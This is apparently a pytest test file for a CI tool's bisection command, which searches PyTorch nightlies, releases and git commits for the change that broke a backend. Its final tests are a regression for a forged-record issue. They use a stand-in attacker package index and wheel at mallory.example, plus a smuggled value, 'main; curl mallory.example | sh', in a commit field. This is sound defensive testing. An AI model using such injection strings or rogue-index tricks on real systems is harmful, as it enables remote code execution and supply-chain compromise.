"""`ootci bisect` without a build: the search, the predicate and verdicts, and the candidate listings
(a real package index on a local HTTP server, real git repositories)."""

from __future__ import annotations

import datetime as dt
import json
import subprocess
from pathlib import Path

import pytest
from packaging.version import Version

from ootci.runner import models
from ootci.runner.bisection import bisect, bisect_candidates, bisect_search
from ootci.runner.bisection.bisect_search import Ended, Probe, Step
from ootci.runner.core import errors
from ootci.runner.models import Outcome, RootCause, RunRecord, StageResult, Status, TorchInfo, Verdict
from ootci.runner.records import record_files
from ootci.runner.torch_supply import torch_index
from tests.support.cli import ootci

V = Verdict


def walk(size: int, truth: dict[int, Verdict | list[Verdict]]) -> tuple[list[Step], Ended]:
    """Run the search against a table of verdicts (a list: one verdict per time it is asked)."""
    steps: list[Step] = []
    asked: dict[int, int] = {}
    while True:
        probe = bisect_search.next_probe(size, steps)
        if isinstance(probe, Ended):
            return steps, probe
        answer = truth[probe.candidate]
        if isinstance(answer, list):
            answer = answer[asked.get(probe.candidate, 0)]
            asked[probe.candidate] = asked.get(probe.candidate, 0) + 1
        steps.append(Step(probe.candidate, answer, probe.rerun))


def test_eight_commits_with_a_broken_build_take_four_judged_steps():
    # Commits 1..8 are candidates 0..7; 3 does not build, 5 is the first bad one.
    steps, ended = walk(8, {1: V.good, 2: V.skip, 3: V.good, 4: V.bad, 5: V.bad, 6: V.bad})
    assert ended == Ended("found", last_good=3, first_bad=4)
    judged = [s for s in steps if s.verdict is not V.skip]
    assert len(judged) == 4 and [s.candidate for s in steps if s.verdict is V.skip] == [2]
    # Both boundary verdicts were asked twice, once as a re-run.
    assert sorted(s.candidate for s in steps if s.rerun) == [3, 4]


@pytest.mark.parametrize("first_bad", range(1, 16))
def test_every_position_is_found_in_logarithmic_steps(first_bad):
    size = 17
    truth = {i: (V.bad if i >= first_bad else V.good) for i in range(1, size - 1)}
    steps, ended = walk(size, truth)
    assert (ended.kind, ended.first_bad, ended.last_good) == ("found", first_bad, first_bad - 1)
    assert len(steps) <= bisect_search.most_judged_steps(size) == 6


def test_the_bad_end_itself_can_be_the_first_bad_one():
    steps, ended = walk(4, {1: V.good, 2: V.good})
    assert (ended.last_good, ended.first_bad) == (2, 3)
    assert [s.candidate for s in steps if s.rerun] == [2]  # the bad end is given, not re-judged


def test_skips_around_the_boundary_leave_a_range():
    steps, ended = walk(6, {1: V.good, 2: V.skip, 3: V.skip, 4: V.bad})
    assert ended.kind == "range"
    assert (ended.last_good, ended.first_bad, ended.skipped) == (1, 4, (2, 3))


def test_a_verdict_that_changes_on_its_re_run_is_flaky_and_names_no_culprit():
    steps, ended = walk(5, {1: V.good, 2: [V.bad, V.good], 3: V.bad})
    assert ended.kind == "flaky" and ended.flaky == 2


def test_the_next_probe_depends_only_on_the_steps_so_a_replay_goes_on_where_it_stopped():
    full, ended = walk(12, {i: (V.bad if i >= 7 else V.good) for i in range(1, 11)})
    for cut in range(len(full)):
        assert bisect_search.next_probe(12, full[:cut]) == Probe(full[cut].candidate, full[cut].rerun)


# -- predicate and verdicts ---------------------------------------------------------

def record(run_id: str, stages: dict[str, Status], tests: dict[str, Outcome] | None = None,
           cause: str = "") -> RunRecord:
    r = RunRecord(run_id=run_id, backend="b", device="d", torch=TorchInfo(spec="2.13.0", version="2.13.0+cpu"),
                  started_at=dt.datetime(2026, 11, 1, tzinfo=dt.UTC))
    for name, status in stages.items():
        r.stages.append(StageResult(name=name, status=status, summary=f"{name} {status.value}",
                                    root_cause=RootCause(kind="test", summary=cause) if cause and not status.ok
                                    else None))
    r.tests = [models.TestResult(id=i, suite="smoke", outcome=o, message=f"{i} {o.value}")
               for i, o in (tests or {}).items()]
    return r


GREEN = {"torch": Status.passed, "build": Status.passed, "install": Status.passed, "autoload": Status.passed,
         "smoke": Status.passed}


def test_the_predicate_is_the_tests_that_passed_in_the_good_run_and_fail_in_the_bad_one():
    good = record("g", GREEN, {"t::a": Outcome.passed, "t::b": Outcome.passed, "t::c": Outcome.failed,
                               "t::d": Outcome.skipped})
    bad = record("b", {**GREEN, "smoke": Status.failed},
                 {"t::a": Outcome.failed, "t::b": Outcome.passed, "t::c": Outcome.failed, "t::d": Outcome.failed,
                  "t::new": Outcome.failed}, cause="failed: t::a")
    predicate = bisect.derive_predicate(good, bad)
    assert predicate.stage == "smoke" and predicate.tests == {"smoke": ["t::a"]}
    assert predicate.cause == "smoke: failed: t::a"


def test_a_bad_run_that_did_not_fail_or_a_good_run_that_failed_there_too_is_refused():
    with pytest.raises(errors.BisectError, match="did not fail"):
        bisect.derive_predicate(record("g", GREEN), record("b", GREEN))
    bad = record("b", {**GREEN, "autoload": Status.failed})
    with pytest.raises(errors.BisectError, match="did not pass stage autoload either"):
        bisect.derive_predicate(record("g", {**GREEN, "autoload": Status.failed}), bad)


def test_verdicts_bad_good_and_skip():
    predicate = bisect.derive_predicate(
        record("g", GREEN, {"t::a": Outcome.passed}),
        record("b", {**GREEN, "smoke": Status.failed}, {"t::a": Outcome.failed}))
    assert bisect.judge(record("s", {**GREEN, "smoke": Status.failed}, {"t::a": Outcome.failed}), predicate)[0] is V.bad
    assert bisect.judge(record("s", GREEN, {"t::a": Outcome.passed}), predicate)[0] is V.good
    assert bisect.judge(record("s", GREEN, {"t::a": Outcome.flaky}), predicate)[0] is V.good
    # The build broke: nothing can be said of the tests.
    broken = record("s", {"torch": Status.passed, "build": Status.failed, "install": Status.blocked},
                    cause="g++: error")
    verdict, reason, stage = bisect.judge(broken, predicate)
    assert (verdict, stage) == (V.skip, "build") and reason == "build failed before smoke: g++: error"
    # The tests were not there to run.
    assert bisect.judge(record("s", GREEN, {"t::other": Outcome.passed}), predicate)[0] is V.skip


def test_a_stage_predicate_judges_the_stage():
    predicate = bisect.derive_predicate(record("g", GREEN), record("b", {**GREEN, "autoload": Status.failed}))
    assert predicate.tests == {}
    assert bisect.judge(record("s", {**GREEN, "autoload": Status.failed}), predicate)[0] is V.bad
    assert bisect.judge(record("s", GREEN), predicate)[0] is V.good
    assert bisect.judge(record("s", {"torch": Status.failed}), predicate)[0] is V.skip


# -- candidates from a package index -------------------------------------------------

TAGS = "cp311-cp311-manylinux_2_28_x86_64"


def nightly_files() -> list[dict]:
    """Nightlies from 11-14 to 11-22: two variants on the 16th, none on the 18th and 19th, the 20th yanked,
    and wheels for other Pythons and platforms that must not count."""
    files = []
    for day in (14, 15, 16, 17, 20, 21, 22):
        files.append({"filename": f"torch-2.16.0.dev202611{day}+cpu-{TAGS}.whl"})
        files.append({"filename": f"torch-2.16.0.dev202611{day}+cpu-cp312-cp312-manylinux_2_28_x86_64.whl"})
        files.append({"filename": f"torch-2.16.0.dev202611{day}+cpu-cp311-cp311-win_amd64.whl"})
    files.append({"filename": f"torch-2.16.0.dev20261116+cu130-{TAGS}.whl"})  # another variant that day
    for f in files:
        f["url"] = f"/files/{f['filename']}"
        f["hashes"] = {}
        if "dev20261120" in f["filename"]:
            f["yanked"] = "broken upload"
    return files


@pytest.fixture
def nightly_index(httpserver):
    body = {"meta": {"api-version": "1.0"}, "name": "torch", "files": nightly_files()}
    httpserver.expect_request("/simple/torch/").respond_with_data(
        json.dumps(body), content_type=torch_index.PEP691_JSON)
    return httpserver.url_for("/simple")


def test_nightly_candidates_between_two_nightlies_one_a_day_with_missing_days_and_yanked_files(nightly_index):
    files = torch_index.fetch_project(nightly_index)
    listing = bisect_candidates.nightlies_between(files, torch_index.target(), Version("2.16.0.dev20261114+cpu"),
                                                  Version("2.16.0.dev20261122+cpu"))
    dates = [c.date for c in listing.candidates]
    assert dates == ["2026-11-15", "2026-11-16", "2026-11-17", "2026-11-21"]
    assert listing.missing_days == ["2026-11-18", "2026-11-19", "2026-11-20"]
    assert listing.yanked == [f"torch-2.16.0.dev20261120+cpu-{TAGS}.whl"]
    # One build a day, named as pip installs it.
    assert [c.spec for c in listing.candidates[:2]] == ["2.16.0.dev20261115+cpu", "2.16.0.dev20261116+cu130"]
    assert "no nightly on 3 day(s): 2026-11-18, 2026-11-19, 2026-11-20" in listing.notes()


def test_release_candidates_skip_pre_releases_and_yanked(httpserver):
    names = [f"torch-{v}-{TAGS}.whl" for v in ("2.12.0", "2.13.0", "2.14.0rc1", "2.14.0", "2.14.1", "2.15.0")]
    links = "".join(f'<a href="/f/{n}"{" data-yanked" if "2.14.1" in n else ""}>{n}</a>' for n in names)
    httpserver.expect_request("/simple/torch/").respond_with_data(links, content_type="text/html")
    files = torch_index.fetch_project(httpserver.url_for("/simple"))
    listing = bisect_candidates.releases_between(files, torch_index.target(), Version("2.13.0"), Version("2.15.0"))
    assert [c.spec for c in listing.candidates] == ["2.14.0"]
    assert listing.yanked == [f"torch-2.14.1-{TAGS}.whl"]


def test_explicit_versions_between_the_ends():
    picked = bisect_candidates.explicit(["2.13.0", "2.14.0", "2.15.0"], "2.13.0", "2.15.0")
    assert [c.spec for c in picked] == ["2.14.0"]
    assert [c.spec for c in bisect_candidates.explicit(["2.14.0"], "2.13.0", "2.15.0")] == ["2.14.0"]


# -- candidates from git ---------------------------------------------------------------

def git(repo: Path, *args: str) -> str:
    env = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@b", "PATH": "/usr/bin:/bin"}
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True,
                          env=env).stdout.strip()


def fake_pytorch(tmp_path: Path) -> tuple[Path, list[str]]:
    """A repository with PyTorch-style commit messages: the merge bot's trailer, `(#N)` subjects, neither."""
    repo = tmp_path / "pytorch"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    messages = [
        "Nightly base",
        "[inductor] fuse more (#160001)\n\nPull Request resolved: https://github.com/pytorch/pytorch/pull/160001\n"
        "Approved by: https://github.com/someone",
        "Revert \"[c10] change GeneratorImpl\"\n\nThis reverts commit abc.",
        "[c10] change DeviceGuard (#160003)",
        "[dynamo] one more\n\nPull Request resolved: https://github.com/pytorch/pytorch/pull/160004",
    ]
    commits = []
    for i, message in enumerate(messages):
        (repo / "f.txt").write_text(str(i))
        git(repo, "add", "f.txt")
        git(repo, "commit", "-q", "-m", message)
        commits.append(git(repo, "rev-parse", "HEAD"))
    return repo, commits


def test_commits_between_two_git_versions_with_their_pull_requests(tmp_path):
    repo, commits = fake_pytorch(tmp_path)
    found = bisect_candidates.commits_between(repo, commits[0], commits[4], label="pytorch", spec="git:{sha}")
    assert [c.commit for c in found] == commits[1:]
    assert [c.pr for c in found] == [160001, None, 160003, 160004]
    assert found[0].spec == f"git:{commits[1]}" and found[0].label == f"pytorch@{commits[1][:10]}"
    assert found[2].subject == "[c10] change DeviceGuard (#160003)"
    with pytest.raises(bisect.UsageError, match="is not an ancestor"):
        bisect_candidates.commits_between(repo, commits[4], commits[0], label="pytorch")


def write_run(runs: Path, run_id: str, *, version: str, git_version: str, smoke: Status,
              tests: dict[str, Outcome], started: int) -> None:
    r = record(run_id, {**GREEN, "smoke": smoke}, tests, cause="failed")
    r.backend, r.trigger = "openreg", "nightly"
    r.torch = TorchInfo(spec="nightly", version=version, dist_version=version, git_version=git_version,
                        index_url="https://download.pytorch.org/whl/nightly/cpu")
    r.started_at = r.finished_at = dt.datetime(2026, 11, started, tzinfo=dt.UTC)
    r.status = Status.passed if smoke is Status.passed else Status.failed
    (runs / run_id).mkdir(parents=True)
    record_files.write(runs / run_id, r)


def test_the_commits_plan_of_two_adjacent_nightlies_in_a_dry_run(tmp_path):
    """Good and bad are the runs of two adjacent nightlies: --dry-run lists the PyTorch commits between
    their git_versions, read from a local repository, with the pull requests, and runs nothing."""
    repo, commits = fake_pytorch(tmp_path)
    runs = tmp_path / "runs"
    good, bad = "openreg-20261121T030000Z-aaaaaa", "openreg-20261122T030000Z-bbbbbb"
    write_run(runs, good, version="2.16.0.dev20261121+cpu", git_version=commits[0], smoke=Status.passed,
              tests={"test_x.py::test_mul": Outcome.passed}, started=21)
    write_run(runs, bad, version="2.16.0.dev20261122+cpu", git_version=commits[4], smoke=Status.failed,
              tests={"test_x.py::test_mul": Outcome.failed}, started=22)
    result = ootci("bisect", "openreg", "--good", good, "--bad", bad, "--commits", "--versions",
                   "2.16.0.dev20261121+cpu,2.16.0.dev20261122+cpu", "--torch-repo", str(repo), "--runs", str(runs),
                   "--out", str(tmp_path / "bisect"), "--dry-run")
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert out.splitlines()[0] == (f"bisect openreg: good {good}, bad {bad} (a dry run writes nothing; "
                                   f"the bisection would be written under {tmp_path / 'bisect'})")
    assert "predicate: stage smoke" in out and "  smoke::test_x.py::test_mul" in out
    assert ("torch axis (backend as in the manifest): 0 candidate(s) between torch 2.16.0.dev20261121 "
            "and torch 2.16.0.dev20261122") in out
    assert "torch-commits axis" in out and "3 candidate(s)" in out
    for sha, pr in zip(commits[1:4], (160001, None, 160003), strict=True):
        line = next(line for line in out.splitlines() if sha[:10] in line)
        assert f"git:{sha}" in line and ((f"pr={pr}" in line) if pr else "pr=" not in line)
    assert not (tmp_path / "bisect").exists()


def test_turned_red_lists_backends_whose_latest_run_is_the_first_red_one(tmp_path):
    runs = tmp_path / "runs"
    write_run(runs, "openreg-20261120T030000Z-aaaaaa", version="2.16.0.dev20261120+cpu", git_version="a" * 40,
              smoke=Status.passed, tests={}, started=20)
    write_run(runs, "openreg-20261121T030000Z-bbbbbb", version="2.16.0.dev20261121+cpu", git_version="b" * 40,
              smoke=Status.failed, tests={}, started=21)
    result = ootci("bisect", "--turned-red", "--runs", str(runs))
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == [{"backend": "openreg", "good": "openreg-20261120T030000Z-aaaaaa",
                                          "bad": "openreg-20261121T030000Z-bbbbbb", "runs_on": ["ubuntu-latest"],
                                          "container": "", "login_shell": False, "use_image_python": False,
                                          "perf": ""}]
    # A later run whose job left no record says nothing of the backend: the red run is still the turn.
    missing = runs / "openreg-20261121T120000Z-dddddd"
    write_run(runs, missing.name, version="2.16.0.dev20261121+cpu", git_version="d" * 40, smoke=Status.failed,
              tests={}, started=21)
    record_missing = record_files.read(missing / "record.json")
    record_missing.status, record_missing.stages = Status.missing, []
    record_missing.started_at = record_missing.finished_at = record_missing.started_at.replace(hour=12)
    record_files.write(missing, record_missing)
    assert [(e["good"], e["bad"]) for e in json.loads(ootci("bisect", "--turned-red", "--runs", str(runs)).stdout)] \
        == [("openreg-20261120T030000Z-aaaaaa", "openreg-20261121T030000Z-bbbbbb")]
    # Still red the night after: it was bisected when it turned, not again.
    write_run(runs, "openreg-20261122T030000Z-cccccc", version="2.16.0.dev20261122+cpu", git_version="c" * 40,
              smoke=Status.failed, tests={}, started=22)
    assert json.loads(ootci("bisect", "--turned-red", "--runs", str(runs)).stdout) == []


def test_bad_input_is_one_line(tmp_path):
    result = ootci("bisect", "openreg", "--good", "openreg-20261120T030000Z-aaaaaa", "--bad", "x",
                   "--runs", str(tmp_path))
    assert result.returncode == 2
    assert result.stderr.strip() == f"ootci: no run openreg-20261120T030000Z-aaaaaa under {tmp_path}"
    result = ootci("bisect", "--resume", str(tmp_path))
    assert result.returncode == 2 and "bisect.json: cannot read" in result.stderr


@pytest.mark.parametrize("dry_run", [[], ["--dry-run"]])
def test_equal_ends_are_refused_at_once(tmp_path, dry_run):
    """Nothing lies between two equal ends: refused before any pipeline runs, with --dry-run too."""
    out = tmp_path / "bisect"
    result = ootci("bisect", "openreg", "--good", "2.13.0", "--bad", " 2.13.0", "--out", str(out), *dry_run,
                   timeout=60)
    assert result.returncode == 12, result.stdout + result.stderr
    assert result.stderr.splitlines() == [
        "ootci: --good and --bad are the same (2.13.0): nothing lies between them to bisect"]
    assert result.stdout == "" and not out.exists()


def test_a_missing_end_is_named(tmp_path):
    result = ootci("bisect", "openreg", "--good", "2.13.0", "--runs", str(tmp_path), "--out", str(tmp_path / "b"))
    assert result.returncode == 2
    assert result.stderr.splitlines() == [
        f"ootci: --bad not given, and no red run after a green one of openreg under {tmp_path} to take it from: "
        "give --bad Y"]
    neither = ootci("bisect", "openreg", "--runs", str(tmp_path), "--out", str(tmp_path / "b"))
    assert neither.returncode == 2 and neither.stderr.strip().startswith("ootci: --good and --bad not given")
    assert neither.stderr.strip().endswith("to take them from: give --good X --bad Y")


# -- the walk of one round, with steps that return records --------------------------------

def bisection(tmp_path: Path, max_steps: int = 20) -> bisect.Bisection:
    from ootci.runner.manifests import registry
    from ootci.runner.models import BisectRecord

    options = bisect.BisectOptions(manifest=registry.resolve("openreg"), good="2.13.0", bad="2.15.0",
                                   out=tmp_path, max_steps=max_steps)
    state = BisectRecord(bisect_id="bisect-openreg-x", backend="openreg", started_at=bisect.now(),
                         good="2.13.0", bad="2.15.0")
    return bisect.Bisection(options, state, tmp_path)


def round_of(specs: list[str], check_bad_end: bool = False):
    from ootci.runner.models import BisectCandidate, BisectRound

    return BisectRound(axis="torch", fixed="backend at 1234", check_bad_end=check_bad_end,
                       candidates=[BisectCandidate(label=f"torch {s}", spec=s) for s in specs])


AUTOLOAD = bisect.Predicate(stage="autoload", cause="autoload: undefined symbol")


def stepper(bad_from: str | None):
    """A step that 'runs' a torch: autoload fails from version bad_from on (never, when None)."""
    def step(candidate):
        broken = bad_from is not None and Version(candidate.spec) >= Version(bad_from)
        r = record(f"run-{candidate.spec}", {**GREEN, "autoload": Status.failed if broken else Status.passed},
                   cause="undefined symbol: _ZN2at1x" if broken else "")
        r.torch.git_version = f"{candidate.spec.replace('.', '')}".ljust(40, "0")
        return r
    return step


def test_a_round_writes_every_step_and_names_the_first_bad_torch_with_its_cause(tmp_path):
    b = bisection(tmp_path)
    b.state.predicate = AUTOLOAD
    r = round_of(["2.13.0", "2.14.0", "2.14.1", "2.15.0"])
    b.state.rounds.append(r)
    b.walk(r, AUTOLOAD, stepper("2.14.1"))
    assert r.result.kind == "found" and r.candidates[r.result.first_bad].spec == "2.14.1"
    assert r.result.cause == "autoload failed: undefined symbol: _ZN2at1x"
    assert r.result.summary == "openreg broke at torch 2.14.1, last good torch 2.14.0"
    assert r.result.links["compare"] == f"https://github.com/pytorch/pytorch/compare/{'2140'.ljust(40, '0')}..." \
        f"{'2141'.ljust(40, '0')}"
    on_disk = bisect.BisectRecord.model_validate_json((tmp_path / "bisect.json").read_text())
    assert on_disk.rounds[0].steps == r.steps and r.candidates[1].commit == "2140".ljust(40, "0")


def test_when_the_bad_torch_passes_with_the_good_backend_the_torch_is_cleared(tmp_path):
    """Torch and backend both changed: the bad torch with the good backend is judged first."""
    b = bisection(tmp_path)
    r = round_of(["2.13.0", "2.14.0", "2.15.0"], check_bad_end=True)
    b.walk(r, AUTOLOAD, stepper(None))
    assert [(s.candidate, s.verdict) for s in r.steps] == [(2, Verdict.good)]
    assert r.result.kind == "cleared" and "is not the cause" in r.result.summary
    # With the torch at fault, the same check is bad and the search goes on over the torches.
    r2 = round_of(["2.13.0", "2.14.0", "2.15.0"], check_bad_end=True)
    b.walk(r2, AUTOLOAD, stepper("2.14.0"))
    assert r2.steps[0].candidate == 2 and r2.result.kind == "found"
    assert r2.candidates[r2.result.first_bad].spec == "2.14.0"


def test_a_spent_budget_ends_with_the_range_so_far(tmp_path):
    b = bisection(tmp_path, max_steps=2)
    r = round_of([f"2.{minor}.0" for minor in range(13, 30)])
    b.state.rounds.append(r)
    b.walk(r, AUTOLOAD, stepper("2.20.0"))
    assert len(r.steps) == 2 and r.result.kind == "budget"
    assert "the step budget (2) is spent" in r.result.summary


def test_history_merge_keeps_the_bisection_with_more_steps(tmp_path):
    from ootci.runner.history.merging import merge_bisections
    from ootci.runner.models import BisectRecord

    def write(where: Path, steps: int, state: str) -> None:
        b = BisectRecord(bisect_id="bisect-openreg-20261123T000000Z-abcdef", backend="openreg",
                         started_at=bisect.now(), good="a", bad="b", state=state)
        r = round_of(["2.13.0", "2.14.0", "2.15.0"])
        r.steps = [bisect.BisectStep(candidate=1, verdict=Verdict.bad)] * steps
        b.rounds.append(r)
        (where / b.bisect_id / "steps" / "run-x").mkdir(parents=True)
        (where / b.bisect_id / "steps" / "run-x" / "record.json").write_text("{}")
        (where / b.bisect_id / "bisect.json").write_text(b.model_dump_json())

    history, early, late = tmp_path / "history", tmp_path / "early", tmp_path / "late"
    history.mkdir()
    write(early, 1, "running")
    write(late, 2, "finished")
    assert merge_bisections([early], history)["added"] == ["bisect-openreg-20261123T000000Z-abcdef"]
    assert merge_bisections([late], history)["updated"] == ["bisect-openreg-20261123T000000Z-abcdef"]
    assert merge_bisections([early], history)["present"] == ["bisect-openreg-20261123T000000Z-abcdef"]
    held = BisectRecord.model_validate_json(next(history.glob("*/bisect.json")).read_text())
    assert held.state == "finished" and held.steps_taken() == 2
    # The step's run is part of the bisection: merging runs does not take it as a run of the history.
    from ootci.runner.records.record_files import find_runs
    assert find_runs(history) == []


def test_the_target_is_the_bad_runs_largest_new_cause_not_any_failure_of_its_tests():
    from ootci.runner.core import causes

    good = record("g", GREEN, {f"t::{n}": Outcome.passed for n in ("a1", "a2", "a3", "b")})
    bad = record("b", {**GREEN, "smoke": Status.failed}, {f"t::{n}": Outcome.failed for n in ("a1", "a2", "a3", "b")})
    for t in bad.tests:
        t.message = "RuntimeError: mul computed as add" if t.id != "t::b" else "KeyError: 'b'"
    causes.attach(bad.stage("smoke"), bad.tests, bad.device)
    predicate = bisect.derive_predicate(good, bad)
    assert predicate.failure_cause == "RuntimeError: mul computed as add"
    assert predicate.tests == {"smoke": ["t::a1", "t::a2", "t::a3"]}

    def step(message: str) -> RunRecord:
        r = record("s", {**GREEN, "smoke": Status.failed}, {"t::a1": Outcome.failed})
        r.tests[0].message = message
        return r

    assert bisect.judge(step("RuntimeError: mul computed as add"), predicate)[0] is V.bad
    # Failing otherwise at a candidate says nothing of this cause: neither bad nor good.
    verdict, reason, _ = bisect.judge(step("ImportError: libfoo.so"), predicate)
    assert verdict is V.skip and "not with the cause looked for (RuntimeError: mul computed as add)" in reason
    assert bisect.judge(record("s", GREEN, {"t::a1": Outcome.passed}), predicate)[0] is V.good


# -- what a bisection takes from a record ----------------------------------------------------

EVIL_INDEX = "https://mallory.example/simple"
EVIL_WHEEL = "https://mallory.example/torch-2.16.0.dev20261122+cpu-cp311-cp311-linux_x86_64.whl"


def forged(run_id: str, spec: str, version: str | None, git_version: str | None = None) -> RunRecord:
    r = record(run_id, {**GREEN, "smoke": Status.failed}, cause="failed")
    r.torch = TorchInfo(spec=spec, version=version, dist_version=version, git_version=git_version,
                        index_url=EVIL_INDEX)
    return r


def test_a_bisection_started_from_a_record_naming_another_index_installs_from_its_own(tmp_path, monkeypatch):
    """Issue 54, critical: the nightly's `bisect --turned-red` read the torch spec and index URL of the red
    run's record, and a forged record put the writer's wheel into a trusted job. What is installed now is
    the version the record names, from the bisection's own index (--index-url: the workflow's input), else
    PyTorch's nightly index for a nightly's version: the record's URLs are never used."""
    monkeypatch.delenv(torch_index.INDEX_ENV, raising=False)
    bad = forged("openreg-b", EVIL_WHEEL, "2.16.0.dev20261122+cpu")
    assert bisect.torch_spec_of(bad) == "2.16.0.dev20261122+cpu"
    assert bisect.torch_spec_of(forged("openreg-c", "nightly", "2.16.0.dev20261123+cpu")) == "2.16.0.dev20261123+cpu"
    assert bisect.torch_spec_of(forged("openreg-d", "2.13.0", "2.13.0")) == "2.13.0"

    b = bisection(tmp_path)
    b.bad.record = bad
    assert b.fixed_torch() == ("2.16.0.dev20261122+cpu", torch_index.DEFAULT_NIGHTLY_INDEX)
    b.options.index_url = "https://download.pytorch.org/whl/nightly/cpu"
    assert b.fixed_torch() == ("2.16.0.dev20261122+cpu", "https://download.pytorch.org/whl/nightly/cpu")
    b.options.index_url = None
    good = forged("openreg-a", EVIL_WHEEL.replace("1122", "1121"), "2.16.0.dev20261121+cpu")
    b.options.versions = ["2.16.0.dev20261121+cpu", "2.16.0.dev20261122+cpu"]
    round_ = b.torch_round(good, bad, None)
    assert [c.spec for c in round_.candidates] == ["2.16.0.dev20261121+cpu", "2.16.0.dev20261122+cpu"]
    assert round_.index_url == torch_index.DEFAULT_NIGHTLY_INDEX
    assert EVIL_INDEX not in round_.model_dump_json() and "mallory" not in round_.model_dump_json()


@pytest.mark.parametrize("spec, version, git_version, why", [
    (EVIL_WHEEL, None, None, "records no version of it"),
    ("nightly", "not a version", None, "records no version of it"),
    ("git:main", None, "main; curl mallory.example | sh", "is not a commit"),
])
def test_a_record_that_names_no_installable_version_starts_no_bisection(spec, version, git_version, why):
    with pytest.raises(errors.BisectError, match=why):
        bisect.torch_spec_of(forged("openreg-x", spec, version, git_version))
